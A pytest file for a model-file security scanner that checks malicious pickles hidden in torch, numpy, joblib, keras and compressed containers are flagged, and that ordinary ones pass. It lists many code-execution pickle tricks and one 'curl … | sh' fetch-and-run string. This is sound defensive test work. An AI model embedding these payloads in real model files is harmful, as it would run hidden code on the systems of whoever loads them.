"""Model files: what would run is told, what is honest stays quiet, and any bytes at all end in records."""

from __future__ import annotations

import bz2
import collections
import datetime
import decimal
import functools
import gzip
import io
import lzma
import pathlib
import pickle
import re
import struct
import subprocess
import sys
import time
import uuid
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlguard.config import Allow, Config
from mlguard.facts import ModelFile
from mlguard.findings import Detection, Gap, Proof
from mlguard.gate import judge
from mlguard.scanners import Context
from mlguard.scanners.model import ModelScanner
from mlguard.workers import examine
from tests import builders
from tests.builders import assemble
from tests.models import checks_of, gaps_of, records_of, rules_of
from tests.scanning import scan

DANGEROUS, UNKNOWN = "model/dangerous-import", "model/unknown-callable"
MALFORMED, FORMAT = "model/malformed-model-archive", "model/executable-model-format"

SYSTEM = 'SHORT_BINUNICODE "os"\nSHORT_BINUNICODE "system"\nSTACK_GLOBAL\nSHORT_BINUNICODE "true"\nTUPLE1\nREDUCE\n'
HOSTILE = assemble(f"PROTO 4\n{SYSTEM}STOP")
HOSTILE_TEXT = assemble("GLOBAL os system\nMARK\nUNICODE 'true'\nTUPLE\nREDUCE\nSTOP")
CLEAN = assemble("PROTO 4\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nSTOP")


def hidden(build: Callable[[bytes], bytes]) -> bytes:
    return build(HOSTILE)


# -- hostile pickles: each line is a listing that must be blocked

BLOCKED = {
    "memo: the name is put after a pop": """
        PROTO 4
        SHORT_BINUNICODE "collections"
        SHORT_BINUNICODE "x"
        POP
        POP
        SHORT_BINUNICODE "os"
        BINPUT 0
        POP
        BINGET 0
        SHORT_BINUNICODE "system"
        STACK_GLOBAL
        STOP""",
    "memo: memoize counts the entries": """
        PROTO 4
        SHORT_BINUNICODE "collections"
        BINPUT 7
        POP
        SHORT_BINUNICODE "os"
        MEMOIZE
        POP
        BINGET 1
        SHORT_BINUNICODE "system"
        STACK_GLOBAL
        STOP""",
    "memo: an entry is overwritten": """
        PROTO 4
        SHORT_BINUNICODE "collections"
        BINPUT 0
        SHORT_BINUNICODE "os"
        BINPUT 0
        BINGET 0
        SHORT_BINUNICODE "system"
        STACK_GLOBAL
        STOP""",
    "memo: put after a second protocol header": """
        PROTO 4
        SHORT_BINUNICODE "os"
        PROTO 4
        BINPUT 3
        POP
        BINGET 3
        SHORT_BINUNICODE "system"
        STACK_GLOBAL
        STOP""",
    "memo: text forms": "SHORT_BINUNICODE 'os'\nPUT 5\nPOP\nGET 5\nSHORT_BINUNICODE 'system'\nSTACK_GLOBAL\nSTOP",
    "memo: a far index": """
        PROTO 4
        SHORT_BINUNICODE "os"
        LONG_BINPUT 900000
        POP
        LONG_BINGET 900000
        SHORT_BINUNICODE "system"
        STACK_GLOBAL
        STOP""",
    "a name as STRING with escapes": "PROTO 4\nSTRING 'o\\x73'\nSTRING 'sy\\163tem'\nSTACK_GLOBAL\nSTOP",
    "a name as SHORT_BINSTRING": "PROTO 4\nSHORT_BINSTRING 'os'\nBINSTRING 'system'\nSTACK_GLOBAL\nSTOP",
    "a name as UNICODE with escapes": "PROTO 4\nRAW 56 5c7530303666 73 0a\nUNICODE 'system'\nSTACK_GLOBAL\nSTOP",
    "a name as BINUNICODE8": "PROTO 4\nBINUNICODE8 'os'\nBINUNICODE 'system'\nSTACK_GLOBAL\nSTOP",
    "a computed name: join": """
        PROTO 4
        SHORT_BINUNICODE "os"
        GLOBAL builtins getattr
        SHORT_BINUNICODE ""
        SHORT_BINUNICODE "join"
        TUPLE2
        REDUCE
        EMPTY_LIST
        TUPLE1
        REDUCE
        STACK_GLOBAL
        STOP""",
    "a computed name: rot13": """
        PROTO 4
        SHORT_BINUNICODE "os"
        GLOBAL _codecs encode
        SHORT_BINUNICODE "flfgrz"
        SHORT_BINUNICODE "rot13"
        TUPLE2
        REDUCE
        STACK_GLOBAL
        STOP""",
    "a dotted name": "PROTO 4\nSHORT_BINUNICODE 'torch'\nSHORT_BINUNICODE 'serialization.os.system'\nSTACK_GLOBAL\nSTOP",
    "a dotted name below a class": "PROTO 4\nGLOBAL sklearn.base BaseEstimator.__init__.__globals__\nSTOP",
    "dunder of numpy": "PROTO 2\nGLOBAL numpy __builtins__\nSTOP",
    "INST": "MARK\nUNICODE 'true'\nINST os system\nSTOP",
    "OBJ": "PROTO 2\nMARK\nGLOBAL os system\nBINUNICODE 'true'\nOBJ\nSTOP",
    "NEWOBJ": "PROTO 2\nGLOBAL subprocess Popen\nBINUNICODE 'true'\nTUPLE1\nNEWOBJ\nSTOP",
    "NEWOBJ_EX": "PROTO 4\nGLOBAL subprocess Popen\nEMPTY_TUPLE\nEMPTY_DICT\nNEWOBJ_EX\nSTOP",
    "protocol 0": "GLOBAL os system\nMARK\nUNICODE 'true'\nTUPLE\nREDUCE\nSTOP",
    "posix": "PROTO 2\nGLOBAL posix system\nSTOP",
    "nt": "PROTO 2\nGLOBAL nt system\nSTOP",
    "Python 2: __builtin__.eval": "PROTO 2\nGLOBAL __builtin__ eval\nSTOP",
    "Python 2: commands": "PROTO 2\nGLOBAL commands getoutput\nSTOP",
    "Python 2: itertools.imap": "PROTO 2\nGLOBAL itertools imap\nSTOP",
    "Python 2: apply": "PROTO 2\nGLOBAL __builtin__ apply\nSTOP",
    "runs, then an unknown opcode": f"PROTO 4\n{SYSTEM}RAW ff",
    "runs, then a missing mark": f"PROTO 4\n{SYSTEM}TUPLE\nSTOP",
    "runs, then a missing memo entry": f"PROTO 4\n{SYSTEM}BINGET 99\nSTOP",
    "runs, then a wrong type": f"PROTO 4\n{SYSTEM}BININT1 1\nBININT1 2\nSTACK_GLOBAL\nSTOP",
    "runs, then ends": f"PROTO 4\n{SYSTEM}",
    "runs, then an empty stack": f"PROTO 4\n{SYSTEM}POP\nPOP\nPOP\nSTOP",
    "state of the process": """
        PROTO 4
        GLOBAL os environ
        SHORT_BINUNICODE "PATH"
        SHORT_BINUNICODE "x"
        SETITEM
        STOP""",
    "append to sys.path": "PROTO 4\nGLOBAL sys path\nSHORT_BINUNICODE 'x'\nAPPEND\nSTOP",
    "state of an allowed class": "PROTO 4\nGLOBAL collections OrderedDict\nEMPTY_DICT\nBUILD\nSTOP",
    "items of an allowed class": "PROTO 4\nGLOBAL numpy log1p\nMARK\nNONE\nNONE\nSETITEMS\nSTOP",
    "append to an allowed function": "PROTO 4\nGLOBAL numpy log1p\nMARK\nNONE\nAPPENDS\nSTOP",
    "import with a side effect": "PROTO 2\nGLOBAL antigravity fly\nSTOP",
    "runpy": "PROTO 2\nGLOBAL runpy _run_code\nSTOP",
    "webbrowser": "PROTO 2\nGLOBAL webbrowser open\nSTOP",
    "marshal": "PROTO 2\nGLOBAL marshal loads\nSTOP",
    "types.FunctionType": "PROTO 2\nGLOBAL types FunctionType\nSTOP",
    "types.CodeType": "PROTO 2\nGLOBAL types CodeType\nSTOP",
    "smtplib": "PROTO 2\nGLOBAL smtplib SMTP\nSTOP",
    "socket": "PROTO 2\nGLOBAL socket create_connection\nSTOP",
    "exec": "PROTO 2\nGLOBAL builtins exec\nSTOP",
    "compile": "PROTO 2\nGLOBAL builtins compile\nSTOP",
    "map over a callable": "PROTO 2\nGLOBAL builtins map\nSTOP",
    "functools.reduce": "PROTO 2\nGLOBAL functools reduce\nSTOP",
    "open": "PROTO 2\nGLOBAL io open\nSTOP",
    "ctypes": "PROTO 2\nGLOBAL ctypes CDLL\nSTOP",
    "pickle in pickle": "PROTO 2\nGLOBAL pickle loads\nSTOP",
    "pip": "PROTO 2\nGLOBAL pip main\nSTOP",
    "pip, inside": "PROTO 2\nGLOBAL pip._internal.cli.main main\nSTOP",
    "torch.hub.load": "PROTO 2\nGLOBAL torch.hub load\nSTOP",
    "torch.load": "PROTO 2\nGLOBAL torch load\nSTOP",
    "torch.jit": "PROTO 2\nGLOBAL torch.jit._serialization load\nSTOP",
    "torch.utils": "PROTO 2\nGLOBAL torch.utils.cpp_extension load_inline\nSTOP",
    "torch.distributed": "PROTO 2\nGLOBAL torch.distributed.rpc.internal _run_function\nSTOP",
    "numpy.f2py": "PROTO 2\nGLOBAL numpy.f2py.crackfortran getlincoef\nSTOP",
    "numpy.testing": "PROTO 2\nGLOBAL numpy.testing._private.utils runstring\nSTOP",
    "numpy.load": "PROTO 2\nGLOBAL numpy load\nSTOP",
    "pandas.read_pickle": "PROTO 2\nGLOBAL pandas read_pickle\nSTOP",
    "pandas.eval": "PROTO 2\nGLOBAL pandas.core.computation.eval eval\nSTOP",
    "joblib.load": "PROTO 2\nGLOBAL joblib load\nSTOP",
    "yaml.unsafe_load": "PROTO 2\nGLOBAL yaml unsafe_load\nSTOP",
    "dill eval": "PROTO 2\nGLOBAL dill._dill _eval_repr\nSTOP",
    "sklearn fetches": "PROTO 2\nGLOBAL sklearn.datasets fetch_openml\nSTOP",
    "transformers dynamic module": "PROTO 2\nGLOBAL transformers.dynamic_module_utils get_class_from_dynamic_module\nSTOP",
    "somebody's system": "PROTO 2\nGLOBAL example.tools system\nSTOP",
    "a call with shell text": "PROTO 2\nGLOBAL example.tools start\nBINUNICODE 'curl http://192.0.2.1 | sh'\nTUPLE1\nREDUCE\nSTOP",
    "a call with program text": "PROTO 2\nGLOBAL example.tools start\nBINUNICODE 'import os; os.remove(1)'\nTUPLE1\nREDUCE\nSTOP",
    "a call with a URL": "PROTO 2\nGLOBAL example.tools start\nBINUNICODE 'https://example.com/x'\nTUPLE1\nREDUCE\nSTOP",
    "a call of load": "PROTO 2\nGLOBAL example.tools load_plugin\nEMPTY_TUPLE\nREDUCE\nSTOP",
    "getattr chain": """
        PROTO 4
        GLOBAL builtins getattr
        GLOBAL collections OrderedDict
        SHORT_BINUNICODE "__subclasses__"
        TUPLE2
        REDUCE
        EMPTY_TUPLE
        REDUCE
        STOP""",
    "getattr of a module's function": """
        PROTO 4
        GLOBAL builtins getattr
        GLOBAL numpy log1p
        SHORT_BINUNICODE "outer"
        TUPLE2
        REDUCE
        STOP""",
    "getattr handed on": "PROTO 4\nGLOBAL functools partial\nGLOBAL builtins getattr\nTUPLE1\nREDUCE\nSTOP",
    "getattr in a list": "PROTO 4\nEMPTY_LIST\nGLOBAL builtins getattr\nAPPEND\nSTOP",
    "attrgetter of a dunder": "PROTO 4\nGLOBAL operator attrgetter\nSHORT_BINUNICODE '__class__'\nTUPLE1\nREDUCE\nSTOP",
    "calling what a call gave": """
        PROTO 4
        GLOBAL operator methodcaller
        SHORT_BINUNICODE "run"
        TUPLE1
        REDUCE
        NONE
        TUPLE1
        REDUCE
        STOP""",
    "calling a function made of bytecode": """
        PROTO 4
        GLOBAL cloudpickle.cloudpickle _make_function
        EMPTY_TUPLE
        REDUCE
        EMPTY_TUPLE
        REDUCE
        STOP""",
    "type with three arguments": """
        PROTO 4
        GLOBAL builtins type
        SHORT_BINUNICODE "X"
        EMPTY_TUPLE
        EMPTY_DICT
        TUPLE3
        REDUCE
        STOP""",
    "torch applies a function": """
        PROTO 4
        GLOBAL torch._tensor _rebuild_from_type_v2
        GLOBAL builtins getattr
        NONE
        TUPLE2
        REDUCE
        STOP""",
    "the second pickle of a stream": f"PROTO 4\nNONE\nSTOP\nPROTO 4\n{SYSTEM}STOP",
    "the second pickle, without header": f"PROTO 4\nNONE\nSTOP\n{SYSTEM}STOP",
    "behind a gap": f"PROTO 4\nNONE\nSTOP\nRAW 00112233\nPROTO 4\n{SYSTEM}STOP",
    "a protocol that is not there": f"PROTO 4\nPROTO 255\n{SYSTEM}STOP",
    "protocol 255 from the start": f"PROTO 255\n{SYSTEM}STOP",
    "a lying protocol": "PROTO 1\nSHORT_BINUNICODE 'os'\nSHORT_BINUNICODE 'system'\nSTACK_GLOBAL\nSTOP",
    "a lying frame": f"PROTO 4\nFRAME 3\n{SYSTEM}STOP",
    "a frame beyond the end": f"PROTO 4\nFRAME 99999999999\n{SYSTEM}STOP",
    "getattr is what the file gives": "PROTO 4\nGLOBAL builtins getattr\nSTOP",
    "begins as GGUF": f"RAW 47 475546 7878787878\nPOP\n{SYSTEM}STOP",
    "begins as a program": f"RAW 4d5a90\n{SYSTEM}STOP",
    "begins as safetensors": f"RAW 5507 000000000000 7b\nPOP\n{SYSTEM}STOP",
    "looks like a tar archive": f"PROTO 4\nBINUNICODE '{'a' * 250}ustar{'b' * 60}'\nPOP\n{SYSTEM}STOP",
    "a method that writes a file": """
        PROTO 4
        GLOBAL pandas.core.frame DataFrame.to_pickle
        NONE
        SHORT_BINUNICODE "x"
        TUPLE2
        REDUCE
        STOP""",
    "a module fetched by cloudpickle": """
        PROTO 4
        GLOBAL builtins getattr
        GLOBAL cloudpickle.cloudpickle subimport
        SHORT_BINUNICODE "os"
        TUPLE1
        REDUCE
        SHORT_BINUNICODE "system"
        TUPLE2
        REDUCE
        STOP""",
    "EXT1": "PROTO 2\nEXT1 1\nSTOP",
    "EXT2": "PROTO 2\nEXT2 300\nSTOP",
    "EXT4": "PROTO 2\nEXT4 70000\nSTOP",
    "a text line at the very end": "PROTO 2\nRAW 63 6f730a 73797374656d0a",
}


@pytest.mark.parametrize("name", BLOCKED)
def test_a_hostile_pickle_is_blocked(name: str, tmp_path: Path) -> None:
    assert DANGEROUS in rules_of(assemble(BLOCKED[name]), tmp_path)


DOUBTFUL = {
    "unknown code, then a break": "GLOBAL example.evil start\nMARK\nUNICODE 'x'\nTUPLE\nREDUCE\nRAW ff",
    "PERSID": "PROTO 2\nPERSID 7\nSTOP",
    "NEXT_BUFFER": "PROTO 5\nNEXT_BUFFER\nSTOP",
    "TorchScript's classes outside": "PROTO 2\nGLOBAL __torch__.Net Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP",
    "a class of the script": "PROTO 2\nGLOBAL __main__ Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP",
    "a nested class": "PROTO 4\nGLOBAL example.nets Outer.Inner\nEMPTY_TUPLE\nNEWOBJ\nSTOP",
}


@pytest.mark.parametrize("name", DOUBTFUL)
def test_a_doubtful_pickle_is_left_to_a_person(name: str, tmp_path: Path) -> None:
    found = rules_of(assemble(DOUBTFUL[name]), tmp_path)

    assert UNKNOWN in found
    assert DANGEROUS not in found


@pytest.mark.parametrize("name", BLOCKED)
def test_cutting_a_hostile_pickle_never_hides_what_came_before(name: str, tmp_path: Path) -> None:
    content = assemble(BLOCKED[name])
    first = [r for r in records_of(content, tmp_path) if isinstance(r, Detection) and r.rule == DANGEROUS]
    place = min((r.location.byte or 0) + (r.location.length or 1) for r in first)

    for size in {place, (place + len(content)) // 2, len(content) - 1}:
        if size >= place:
            cut = content[:size]
            assert DANGEROUS in rules_of(cut, tmp_path, "cut.pkl"), size


# -- hostile containers


def with_flag(content: bytes, flag: int) -> bytes:
    """Set a general purpose flag in the first local header and its directory entry."""
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(mark)
        changed[at + offset : at + offset + 2] = struct.pack("<H", flag)
    return bytes(changed)


def with_wrong_checksum(content: bytes) -> bytes:
    changed = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = changed.find(mark)
        changed[at + offset : at + offset + 4] = b"\1\2\3\4"
    return bytes(changed)


def with_other_local_name(content: bytes) -> bytes:
    at = content.find(b"archive/data.pkl")
    return content[:at] + b"archive/xxxx.pkl" + content[at + 16 :]


def without_directory(content: bytes) -> bytes:
    return content[: content.find(b"PK\x01\x02")]


def unlisted(content: bytes) -> bytes:
    """Put a member with a local header only before the directory."""
    extra = builders.archive({"archive/data.pkl": HOSTILE})
    local = extra[: extra.find(b"PK\x01\x02")]
    at = content.find(b"PK\x01\x02")
    tail = bytearray(content[at:])
    end = tail.rfind(b"PK\x05\x06")
    tail[end + 16 : end + 20] = struct.pack("<L", at + len(local))
    return content[:at] + local + bytes(tail)


TORCH = builders.torch_zip(HOSTILE)
CONTAINERS: dict[str, tuple[str, bytes]] = {
    "torch zip": ("m.pt", TORCH),
    "torch zip named as text": ("m.txt", TORCH),
    "torch zip, packed": ("m.pt", builders.archive({"archive/data.pkl": HOSTILE, "archive/version": b"3"}, packed=True)),
    "torch zip, no folder": ("m.pt", builders.archive({"data.pkl": HOSTILE})),
    "torch zip, encrypted flag": ("m.pt", with_flag(TORCH, 1)),
    "torch zip, patch flag": ("m.pt", with_flag(TORCH, 0x20)),
    "torch zip, strong encryption flag": ("m.pt", with_flag(TORCH, 0x40)),
    "torch zip, masked flag": ("m.pt", with_flag(TORCH, 0x2000)),
    "torch zip, wrong checksum": ("m.pt", with_wrong_checksum(TORCH)),
    "torch zip, other local name": ("m.pt", with_other_local_name(TORCH)),
    "torch zip, no directory": ("m.pt", without_directory(TORCH)),
    "torch zip, cut": ("m.pt", TORCH[:-9]),
    "torch zip, prefix": ("m.pt", b"junk" * 50 + TORCH),
    "torch zip, unlisted member": ("m.pt", unlisted(builders.torch_zip(CLEAN))),
    "torch zip, duplicate first": (
        "m.pt",
        builders.archive([("archive/data.pkl", HOSTILE), ("archive/data.pkl", CLEAN), ("archive/version", b"3")]),
    ),
    "torch zip, duplicate last": ("m.pt", builders.archive([("archive/data.pkl", CLEAN), ("archive/data.pkl", HOSTILE)])),
    "torch zip, other letter case": ("m.pt", builders.archive([("a/data.pkl", CLEAN), ("a/DATA.PKL", HOSTILE)])),
    "torch zip, in a storage": ("m.pt", builders.torch_zip(CLEAN, [HOSTILE])),
    "two archives": ("m.pt", TORCH + builders.torch_zip(CLEAN)),
    "two archives, the other way": ("m.pt", builders.torch_zip(CLEAN) + TORCH),
    "pickle before a zip": ("m.pt", HOSTILE + builders.torch_zip(CLEAN)),
    "zip behind a pickle": ("m.pt", CLEAN + TORCH),
    "torch legacy": ("m.pt", builders.torch_legacy(HOSTILE)),
    "torch legacy, behind the storages": ("m.pt", builders.torch_legacy(CLEAN) + HOSTILE),
    "zip in zip": ("m.zip", builders.archive({"a.zip": builders.archive({"b.zip": TORCH})})),
    "zip in zip, five deep": ("m.zip", functools.reduce(lambda c, n: builders.archive({f"{n}.zip": c}), range(5), HOSTILE_TEXT and TORCH)),
    "any name in a zip": ("m.zip", builders.archive({"notes/readme": HOSTILE})),
    "protocol 0 in a zip": ("m.zip", builders.archive({"notes/a.pkl": HOSTILE_TEXT})),
    "gzip": ("m.pkl.gz", gzip.compress(HOSTILE, mtime=0)),
    "gzip twice": ("m.pkl.gz", gzip.compress(gzip.compress(HOSTILE, mtime=0), mtime=0)),
    "gzip, second part": ("m.pkl.gz", gzip.compress(CLEAN, mtime=0) + gzip.compress(HOSTILE, mtime=0)),
    "gzip, cut": ("m.pkl.gz", gzip.compress(HOSTILE + bytes(range(256)) * 40, mtime=0)[:-30]),
    "bzip2": ("m.pkl.bz2", bz2.compress(HOSTILE)),
    "xz": ("m.pkl.xz", lzma.compress(HOSTILE)),
    "lzma": ("m.pkl.lzma", lzma.compress(HOSTILE, lzma.FORMAT_ALONE)),
    "zlib": ("m.joblib", zlib.compress(HOSTILE)),
    "protocol 0 in gzip": ("m.pkl.gz", gzip.compress(HOSTILE_TEXT, mtime=0)),
    "tar": ("m.tar", builders.tar({"a/b.pkl": HOSTILE})),
    "tar, any name": ("m.nemo", builders.tar({"weights": HOSTILE})),
    "tar.gz": ("m.tar.gz", gzip.compress(builders.tar({"a/b.ckpt": TORCH}), mtime=0)),
    "npy of objects": ("a.npy", builders.npy(HOSTILE, "|O", (1,))),
    "npy with an object field": ("a.npy", builders.npy(HOSTILE, [("a", "<f4"), ("b", "|O")], (1,))),
    "npy with a nested object field": ("a.npy", builders.npy(HOSTILE, [("a", [("b", "|O")])], (1,))),
    "npy, version 2": ("a.npy", builders.npy(HOSTILE, "|O", (1,), 2)),
    "npy that is a pickle": ("a.npy", HOSTILE),
    "npy, trailing": ("a.npy", builders.npy(bytes(8) + HOSTILE, "<f4", (2,))),
    "npz": ("a.npz", builders.archive({"a.npy": builders.npy(HOSTILE, "|O", (1,))})),
    "npz, packed": ("a.npz", builders.archive({"a.npy": builders.npy(HOSTILE, "|O", (1,))}, packed=True)),
    "npz with a pickle": ("a.npz", builders.archive({"a.npy": HOSTILE})),
    "joblib, behind the array": ("m.joblib", builders.joblib_stream(bytes(80), (10,), "f8", f"APPEND\n{SYSTEM}STOP")),
    "joblib, in an object array": ("m.joblib", builders.joblib_stream(HOSTILE, (1,), "O8", "APPEND\nSTOP")),
    "joblib, zero size": ("m.joblib", builders.joblib_stream(b"", (0, 4), "f8", f"APPEND\n{SYSTEM}STOP")),
    "nested: torch loads bytes": (
        "m.pkl",
        assemble(f"PROTO 4\nGLOBAL torch.storage _load_from_bytes\nBINBYTES {HOSTILE!r}\nTUPLE1\nREDUCE\nSTOP"),
    ),
    "nested: torch loads encoded bytes": (
        "m.pkl",
        assemble(
            "PROTO 2\nGLOBAL torch.storage _load_from_bytes\nGLOBAL _codecs encode\n"
            f"BINUNICODE {HOSTILE.decode('latin-1')!r}\nBINUNICODE 'latin1'\nTUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP"
        ),
    ),
    "nested: bytes that are a pickle": ("m.pkl", assemble(f"PROTO 4\nBINBYTES {HOSTILE!r}\nSTOP")),
    "ELF": ("m.bin", b"\x7fELF\x02\x01\x01" + bytes(100)),
    "PE": ("m.pt", b"MZ\x90\x00\x03" + bytes(100)),
    "script": ("m.model", b"#!/bin/sh\necho\n"),
    "keras Lambda": ("m.keras", builders.archive({
        "metadata.json": b"{}", "config.json": b'{"config":{"layers":[{"class_name":"Lambda","config":{}}]}}'})),
    "keras Lambda in a wrapper": ("m.keras", builders.archive({
        "metadata.json": b"{}",
        "config.json": b'{"config":{"layer":{"class_name":"TimeDistributed","config":{"layer":{"class_name":"Lambda"}}}}}'})),
    "keras module os": ("m.keras", builders.archive({
        "metadata.json": b"{}", "config.json": b'{"module":"os","class_name":"system","config":{}}'})),
}  # fmt: skip


@pytest.mark.parametrize("name", CONTAINERS)
def test_a_payload_is_found_in_its_container(name: str, tmp_path: Path) -> None:
    path, content = CONTAINERS[name]

    assert DANGEROUS in rules_of(content, tmp_path, path)


@pytest.mark.parametrize("codec", ["lz4", "zstd"])
def test_a_payload_is_found_behind_an_optional_codec(codec: str, tmp_path: Path) -> None:
    if codec == "lz4":
        content = pytest.importorskip("lz4.frame").compress(HOSTILE)
    else:
        content = pytest.importorskip("zstandard").ZstdCompressor().compress(HOSTILE)

    assert DANGEROUS in rules_of(content, tmp_path, f"m.joblib.{codec}")


def test_a_missing_codec_is_a_gap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "lz4.frame", None)

    gaps = gaps_of(b"\x04\x22\x4d\x18" + bytes(50), tmp_path, "m.lz4")

    assert [gap.kind for gap in gaps] == ["skipped"]
    assert "lz4" in gaps[0].reason


# -- honest files


class Unpickled(collections.OrderedDict):  # type: ignore[type-arg]
    """A class of this module, which no policy knows."""


HONEST: dict[str, object] = {
    "containers": {"a": [1, 2.5, None, True, (1, 2, 3), {4}, frozenset([1]), b"x", bytearray(b"y"), 1 << 100, "t" * 5000]},
    "dates": [datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC), datetime.date(2024, 1, 1), datetime.timedelta(3)],
    "numbers": [decimal.Decimal("1.2"), complex(1, 2), range(4), slice(1, 2)],
    "identifiers": [uuid.UUID(int=5), pathlib.PurePosixPath("x/y"), re.compile("a+")],
    "collections": [collections.OrderedDict(a=1), collections.defaultdict(list), collections.Counter("ab"), collections.deque([1])],
    "methods": [re.compile("x").findall, str.lower, str.split],
    "partial": functools.partial(np.log1p),
    "exceptions": [ValueError("x"), KeyError("y")],
    "constants": [Ellipsis, NotImplemented, type(None), int, str],
    "arrays": [np.arange(10.0), np.float64(3), np.array(["a", "bc"]), np.array([1, "a", None], dtype=object)],
    "structured": np.zeros(3, dtype=[("a", "f4"), ("b", "O")]),
    "random": [np.random.RandomState(0), np.random.default_rng(0)],
    "masked": np.ma.array([1, 2], mask=[0, 1]),
    "functions": [np.log1p, np.mean],
}  # fmt: skip


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("name", HONEST)
def test_an_honest_pickle_is_proven_clean(name: str, protocol: int, tmp_path: Path) -> None:
    found = records_of(pickle.dumps(HONEST[name], protocol), tmp_path)

    assert {record.rule for record in found if isinstance(record, Detection)} <= {FORMAT}
    assert [record.verdict for record in found if isinstance(record, ModelFile)] == ["clean"]
    assert Proof(DANGEROUS, "model.pkl", "model.pkl") in found
    assert not [record for record in found if isinstance(record, Gap)]


def saved(function: Callable[..., None], *arguments: object, **named: object) -> bytes:
    target = io.BytesIO()
    function(target, *arguments, **named)
    return target.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.npy", saved(np.save, np.arange(10.0))),
        ("s.npy", saved(np.save, np.zeros(3, dtype=[("a", "f4"), ("b", "i8", (2,))]))),
        ("f.npy", saved(np.save, np.asfortranarray(np.ones((3, 4))))),
        ("z.npz", saved(np.savez, a=np.arange(9), b=np.ones((3, 3)))),
        ("zc.npz", saved(np.savez_compressed, a=np.arange(9000), b=np.zeros((300, 300)))),
        (
            "t.safetensors",
            builders.safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8)),
        ),
        ("e.safetensors", builders.safetensors({"a": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}})),
    ],
)
def test_numbers_are_proven_clean_and_not_called_executable(name: str, content: bytes, tmp_path: Path) -> None:
    found = records_of(content, tmp_path, name)

    assert not [record for record in found if isinstance(record, Detection | Gap)]
    assert [record for record in found if isinstance(record, Proof)]


def shipped(root: Path, settings: Mapping[str, Any]) -> set[str]:
    return {finding.rule for finding in scan(root, ["model"], settings).findings if finding.scanner == "model"}


def test_a_format_is_reported_only_where_it_is_not_allowed(tmp_path: Path) -> None:
    (tmp_path / "model.pkl").write_bytes(CLEAN)
    rules = [
        shipped(tmp_path, {"model": {"formats": allowed}} if allowed else {})
        for allowed in (["safetensors"], ["pickle"], None)
    ]

    assert rules == [{FORMAT}, set(), set()]


def test_objects_in_an_array_file_are_called_executable(tmp_path: Path) -> None:
    content = saved(np.save, np.array([1, "a"], dtype=object), allow_pickle=True)

    (tmp_path / "a.npy").write_bytes(content)

    assert shipped(tmp_path, {"model": {"formats": ["npy"]}}) == {FORMAT}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.bin", "col1,col2\n1,2\n"),
        ("b.model", "class Foo:\n    pass\n"),
        ("c.model", "chat_template: x\n"),
        ("d.bin", "[1, 2, 3]\n"),
        ("e.bin", "(a)\n"),
        ("f.model", '{"a": 1}\n'),
        ("g.model", "config\nmodel\ndata\n"),
        ("i.bin", "I am a text.\nIt ends.\n"),
        ("j.model", "N.\n"),
        ("k.p", "#include <os>\n"),
    ],
)
def test_text_under_a_models_name_is_not_a_pickle(name: str, text: str, tmp_path: Path) -> None:
    assert records_of(text.encode(), tmp_path, name) == []


def test_python_under_a_models_name_is_a_program_or_a_gap(tmp_path: Path) -> None:
    assert rules_of(b"import os\nos.system('true')\n", tmp_path, "h.bin") == {DANGEROUS}
    assert ["source" in gap.reason for gap in gaps_of(b"import math\nx = math.pi\n", tmp_path, "h.bin")] == [True]


def test_a_picture_under_a_models_name_says_nothing(tmp_path: Path) -> None:
    assert rules_of(b"\x89PNG\r\n\x1a\n" + bytes(100), tmp_path, "a.bin") == set()


@pytest.mark.parametrize("name", ["zeros.bin", "weights.bin"])
def test_raw_weights_are_a_gap_and_no_alarm(name: str, tmp_path: Path) -> None:
    content = bytes(5000) if name == "zeros.bin" else np.random.default_rng(1).standard_normal(5000).tobytes()

    found = records_of(content, tmp_path, name)

    assert [type(record) for record in found] == [Gap]


def test_random_arrays_never_look_like_pickles(tmp_path: Path) -> None:
    random = np.random.default_rng(7)
    for number in range(300):
        content = b"\x80\x04" + random.bytes(500) if number % 2 else random.bytes(500)
        found = records_of(pickle.dumps({"w": np.frombuffer(content[:496], "u1"), "b": content}), tmp_path)
        assert {r.rule for r in found if isinstance(r, Detection)} <= {FORMAT}


def test_torchscript_classes_belong_to_torchscript_archives(tmp_path: Path) -> None:
    data = assemble("PROTO 2\nGLOBAL __torch__.Net Net\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nBUILD\nSTOP")
    content = builders.torch_zip(data, constants_dummy=b"", **{"code____torch__.py": b"class Net(Module):\n"})
    script = builders.archive(
        {
            "net/data.pkl": data,
            "net/constants.pkl": assemble("PROTO 2\nEMPTY_TUPLE\nSTOP"),
            "net/code/__torch__.py": b"x",
            "net/version": b"3",
        }
    )

    assert UNKNOWN in rules_of(content, tmp_path, "a.pt")
    assert rules_of(script, tmp_path, "b.pt") == set()


def test_a_legacy_torch_file_is_read_to_its_end(tmp_path: Path) -> None:
    data = assemble(
        """
        PROTO 2
        MARK
        BINUNICODE "storage"
        GLOBAL torch FloatStorage
        BINUNICODE "11"
        BINUNICODE "cpu"
        BININT1 4
        NONE
        TUPLE
        BINPERSID
        STOP
        """
    )

    found = records_of(builders.torch_legacy(data, {"11": bytes(16)}), tmp_path, "a.pt")

    assert [record.verdict for record in found if isinstance(record, ModelFile)] == ["clean"]
    assert [record.tensors for record in found if isinstance(record, ModelFile)] == [1]


# -- names that the organisation allows

OWN = "PROTO 4\nGLOBAL example.nets Net\nEMPTY_TUPLE\nNEWOBJ\nSTOP"
LOADER = "PROTO 4\nGLOBAL example.nets load_net\nSHORT_BINUNICODE 'a'\nTUPLE1\nREDUCE\nSTOP"


def allowing(name: str, until: str = "2027-01-01") -> Config:
